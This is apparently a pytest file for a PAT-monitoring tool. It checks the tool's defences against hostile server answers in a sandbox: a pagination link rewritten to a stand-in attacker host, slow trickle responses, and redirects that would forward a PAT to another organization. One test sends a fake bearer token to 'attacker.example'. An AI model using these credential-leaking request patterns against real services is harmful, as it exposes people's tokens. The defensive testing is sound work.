"""The sandbox's hostile answers (a foreign host, a rewritten nextLink, a trickle, a redirect), and the
adapters' defences against them one call at a time (docs/reference.md, "Answers and deadlines")."""

from __future__ import annotations

import time
from datetime import timedelta

import pytest
import requests

from pat_watchdog.adapters import deadlines
from pat_watchdog.adapters.pats import PatLifecycle
from pat_watchdog.adapters.retry import RetryPolicy, new_session, send
from pat_watchdog.core.errors import UnexpectedAnswer
from tests.sandbox.support import NOW, SUPPRESS, basic, bearer, device_sign_in, entra_user, public_app

RETRY = RetryPolicy(attempts=2, backoff=0.01, backoff_max=0.01, total=5, read_timeout=3)
FOREIGN = "https://attacker.example/anything"


def test_the_foreign_host_records_whether_a_credential_arrived(sb):
    before = len(sb.foreign.arrivals)
    assert requests.get(FOREIGN, timeout=5).json() == {"value": []}
    requests.get(FOREIGN, headers={"Authorization": "Bearer not-a-real-token"}, timeout=5)
    assert [a.authorization for a in sb.foreign.arrivals[before:]] == [False, True]
    assert sb.foreign.credentials >= 1 and "attacker.example" not in sb.proxy_refused


def test_a_next_link_fault_rewrites_a_listing_answer(sb, cred):
    sb.vault.set_secret("answers-kv", "listed", "value")
    url = f"{sb.vault.url('answers-kv')}/secrets/listed/versions?api-version=7.5"
    challenge = requests.get(url, timeout=5)        # Key Vault's first answer is its challenge
    assert challenge.status_code == 401
    sb.inject(method="GET", path="listed/versions", next_link="{self}")
    sb.inject(method="GET", path="listed/versions", next_link=FOREIGN, nth=2)   # every fault counts each request
    headers = bearer(cred, "https://vault.azure.net")
    assert requests.get(url, headers=headers, timeout=5).json()["nextLink"] == url
    assert requests.get(url, headers=headers, timeout=5).json()["nextLink"] == FOREIGN
    assert requests.get(url, headers=headers, timeout=5).json()["nextLink"] is None   # faults used up


def test_a_trickle_passes_any_read_timeout_and_the_deadline_cuts_it(sb):
    sb.inject(host="dev.azure.com", path="trickle-org", status=200, body="0123456789", trickle=0.2, times=None)
    url = f"{sb.devops.org_url('trickle-org')}/_apis/connectionData"
    started = time.monotonic()
    # The attack: every byte comes within the 0.5 s read time-out, the answer takes 1.8 s.
    assert requests.get(url, timeout=(5, 0.5)).text == "0123456789"
    assert time.monotonic() - started >= 1.7
    # The defence: the product's session reads within the deadline of the call in progress.
    session = new_session()
    started = time.monotonic()
    with deadlines.within(0.7, "this test's 0.7 s") as deadline, pytest.raises(requests.ConnectionError):
        session.get(url, timeout=(5, 0.5))
    assert time.monotonic() - started < 1.2 and deadline.passed


def test_a_redirect_fault_makes_requests_carry_the_pat_to_another_organization_and_send_refuses(sb):
    sb.inject(host="dev.azure.com", path="contoso/_apis/connectionData", status=302, times=2,
              headers={"Location": "/fabrikam/_apis/connectionData"})
    url = f"{sb.devops.org_url('contoso')}/_apis/connectionData"
    sb.reset_requests()
    requests.get(url, headers={**basic("a-pat-value"), **SUPPRESS}, timeout=5)
    assert [r.headers.get("Authorization") for r in sb.requests if r.path.startswith("/fabrikam")] == \
        [basic("a-pat-value")["Authorization"]]
    sb.reset_requests()
    with pytest.raises(UnexpectedAnswer, match="HTTP 302: a redirect to dev.azure.com was not followed"):
        send(new_session(), "GET", url, system="Azure DevOps", policy=RETRY, headers=basic("a-pat-value"))
    assert [r.path for r in sb.requests] == ["/contoso/_apis/connectionData"]


@pytest.fixture
def signed_in(sb):
    """A delegated Azure DevOps token (the real MSAL device flow) and the organization it lists PATs in."""
    oid, devops_id = entra_user(sb)
    token = device_sign_in(sb, public_app(sb), oid)["access_token"]
    sb.devops.add_pat("answers-org", f"seed-{devops_id}", user_id=devops_id, valid_to=NOW + timedelta(days=3),
                      display_name="current")
    return token, PatLifecycle(new_session(), sb.devops.org_url("answers-org"), sb.devops.vssps_url("answers-org"),
                               RETRY)


def test_a_continuation_token_that_repeats_ends_the_pat_listing(sb, signed_in):
    token, pats = signed_in
    assert [p.display_name for p in pats.list(token)] == ["current"]
    sb.inject(method="GET", path="_apis/tokens/pats", status=200, times=None,
              body={"continuationToken": "again", "patTokens": []})
    sb.reset_requests()
    with pytest.raises(UnexpectedAnswer, match="the listing loops"):
        pats.list(token)
    assert sb.count(method="GET", path="_apis/tokens/pats") == 2


def test_the_pat_listing_follows_no_redirect(sb, signed_in):
    token, pats = signed_in
    sb.inject(method="GET", path="answers-org/_apis/tokens/pats", status=307, times=None,
              headers={"Location": "https://vssps.dev.azure.com/fabrikam/_apis/tokens/pats?x=1"})
    sb.reset_requests()
    with pytest.raises(UnexpectedAnswer, match="a redirect to vssps.dev.azure.com was not followed"):
        pats.list(token)
    assert [r for r in sb.requests if "fabrikam" in r.path] == []
